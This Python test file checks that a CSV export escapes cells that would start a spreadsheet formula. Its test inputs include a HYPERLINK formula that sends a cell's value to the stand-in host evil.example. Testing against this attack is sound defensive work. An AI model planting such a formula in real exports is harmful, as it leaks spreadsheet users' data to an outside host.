"""Exports a spreadsheet opens without running formulas; report titles with ``$`` draw as text."""

from __future__ import annotations

import csv
import io

import pytest

from corridors.export import to_csv_text
from corridors.frames import entities_frame


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Aktau")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"],
)
def test_csv_cells_that_start_a_formula_are_neutralised(shipped_catalog, name):
    frame = entities_frame(shipped_catalog)
    frame.loc[0, "name"] = name
    frame.at[0, "aliases"] = [name]
    rows = list(csv.DictReader(io.StringIO(to_csv_text(frame), newline="")))
    expected = "'" + name.replace("\r", "\n")
    assert rows[0]["name"] == expected
    assert rows[0]["aliases"] == expected
    assert len(rows) == len(frame)
    numbers = [row["lon"] for row in rows if row["lon"]]
    assert numbers and all(not value.startswith("'") for value in numbers)


def test_ordinary_cells_are_unchanged(shipped_catalog):
    frame = entities_frame(shipped_catalog)
    rows = list(csv.DictReader(io.StringIO(to_csv_text(frame))))
    assert [row["id"] for row in rows] == list(frame["id"])
    assert not any(row["name"].startswith("'") for row in rows)
